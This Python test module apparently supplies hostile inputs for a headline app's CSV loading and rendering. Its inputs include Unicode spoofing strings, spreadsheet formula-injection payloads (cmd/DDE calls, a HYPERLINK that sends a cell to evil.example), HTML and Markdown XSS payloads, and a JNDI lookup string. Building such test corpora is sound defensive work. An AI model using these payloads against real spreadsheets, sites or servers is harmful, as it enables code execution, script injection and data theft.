"""Strings that are taken for something else by eyes, lines and searches, by a spreadsheet, or by a page."""

from tests.hostile.corpus.file import File, table

SCRIPT = {
    "Hebrew": "שלום עולם: ראש הממשלה נפגש",
    "both directions": "Minister الوزير says שר 123 (١٢٣)",
    "an override": "abc \u202egnp.exe\u202c direction is turned",
    "isolates that never end": "abc \u2066\u2067\u2068 isolated",
    "marks without letters": "\u0301\u0302\u0303\u0304",
    "a thousand marks": "a" + "\u0300" * 900,
    "joined emoji": "👩‍🚀👨‍👩‍👧‍👦 lands 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇺🇳",
    "invisible letters": "\u200b\u200c\u200d\ufeff\u2060",
    "invisible between letters": "S\u200bt\u200co\u200dr\u2060m hits",
    "tags of language": "\U000e0001\U000e0065\U000e006e tagged",
    "blank of Hangul": "\u3164\u3164 \u115f",
    "line ends of Unicode": "one\u2028two\u2029three\x85four",
    "controls": "NUL \x00 bell \x07 escape \x1b[31m inside",
    "private letters": "\ue000\uf8ff\U0010fffd private",
    "no characters": "\ufdd0\ufffe\uffff none",
    "mathematical letters": "𝔖𝔱𝔬𝔯𝔪 𝕔𝕝𝕠𝕤𝕖𝕤 𝖆𝖎𝖗𝖕𝖔𝖗𝖙",
    "dotless and dotted i": "İSTANBUL ıssız İİİ",
    "Thai without spaces": "พายุปิดสนามบินกรุงเทพ" * 9,
    "Chinese without spaces": "暴风雨关闭机场银行提高利率" * 20,
    "digits of ten scripts": "١٢٣ १२३ ১২৩ ๑๒๓ ၁၂၃ ０１２ 𝟏𝟐𝟑 ⅫⅣ ½ ①",
    "a very long word": "Donaudampfschifffahrt" * 40,
    "only digits": "1234567890",
    "the word null": "null",
    "the word NaN": "NaN",
    "the word nil of spreadsheets": "#N/A",
    "a date": "2024-05-01",
    "a number with an exponent": "1e400",
}


def named_after(text):
    """A table in which the string is a headline, an outlet and an event."""
    return table([["headline", "publisher", "group"], [text, text, text], ["Bank raises rates", "B", "2"]])


NO_HEADLINE = {
    "marks without letters", "the word null", "the word NaN", "invisible letters", "blank of Hangul",
    "only digits", "a number with an exponent", "the word nil of spreadsheets",
}  # fmt: skip
"""Strings whose row is left out, because nothing can be seen in them or no word is."""

SCRIPT_FILES = {
    name: File("a.csv", named_after(text), 1 if name in NO_HEADLINE else 2) for name, text in SCRIPT.items()
}
NAMES = [text for text in SCRIPT.values() if len(text) < 60 and not any(map(str.isdigit, text))]
SCRIPT_FILES["columns named in all of them"] = File(
    "a.csv", table([["headline", *NAMES], *([f"Storm {i}", *NAMES] for i in (1, 2))]), 2
)


FORMULA = {
    "a link": '=HYPERLINK("https://evil.example?x="&A1,"Prize") won',
    "a program": "=cmd|' /C calc'!A0",
    "a program after a plus": "+1+cmd|' /C calc'!A0 lost",
    "a sum after an at": "@SUM(1+1)*cmd|' /C calc'!A0 held",
    "DDE": '=DDE("cmd";"/C calc";"!A0")',
    "a tab before": "\t=1+1 after a tab",
    "a line end before": "\r=1+1 after a return",
    "a space before": "  =1+1 after spaces",
    "full width": "＝1+1 full width",
    "a quotation mark before": '"=1+1" in quotes',
    "an invisible letter before": "\u200b=1+1 after an invisible letter",
    "an apostrophe before": "'=1+1 after an apostrophe",
    "an array": "{=SUM(1/0)} braces",
    "an error": "#REF! broken",
}


def in_every_column(text):
    """A table in which the string stands in every column, the name of in_every_column included."""
    return table(
        [["headline", "publisher", text], [f"{text}", text, text], ["Bank raises rates", text, text]]
    )


FORMULA_FILES = {name: File("a.csv", in_every_column(text), 2) for name, text in FORMULA.items()}


HTML = {
    "a script": "<script>alert(1)</script> hits the coast",
    "a picture that fails": '"><img src=x onerror=alert(1)> banks agree',
    "a picture of vectors": "<svg/onload=alert(1)> falls",
    "a frame": "</script></style></svg><iframe src=//evil.example> blocks road",
    "a link": '<a href="https://evil.example">Prize</a> <b>for</b> everyone',
    "a style": "<style>@import '//evil.example/x.css'; *{display:none}</style> hides",
    "a comment": "<!-- --><script>alert(1)</script><!-- --> wins",
    "a tag that is not closed": "<b <i <script alert(1) grows",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp; co",
    "data": "<a href='data:text/html,<script>alert(1)</script>'>click</a> says",
    "a link of Markdown": "[click here](javascript:alert(1)) says minister",
    "a picture of Markdown": "![picture](https://evil.example/p.png) of a storm",
    "an automatic link": "<https://evil.example> reports",
    "a bare link": "https://evil.example/x?y=1 www.evil.example a.b@evil.example report",
    "headings and tables": "# title | a | b |\n|---|---|\n> quote",
    "emphasis": "`code` **bold** _em_ ~~gone~~ ```js alert(1)```",
    "mathematics": "$\\frac{1}{0}$ and $$\\href{https://evil.example}{x}$$ rise",
    "mathematics without end": "$$\\def\\a{\\a\\a}\\a$$ overflows",
    "icons": ":material/home: :material_home: :streamlit: :smile: prices fall",
    "colours": ":red[stop] :rainbow[now] :badge[x] :blue-background[y] strike",
    "a chart's line": "one<br>two<extra>three</extra>%{customdata[0]}",
    "a template": "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} %{x} %s {0} %(a)s",
    "a prototype": "__proto__ constructor toString hasOwnProperty",
}


def in_every_field(text):
    """A table in which the string stands in every column, the name of in_every_field included."""
    return table(
        [
            ["headline", "publisher", "url", "group", text],
            [text, text, "javascript:alert(1)", text, text],
            ["Bank raises rates", text, "https://evil.example/<b>", text, text],
        ]
    )


HTML_FILES = {name: File("a.csv", in_every_field(text), 2) for name, text in HTML.items()}
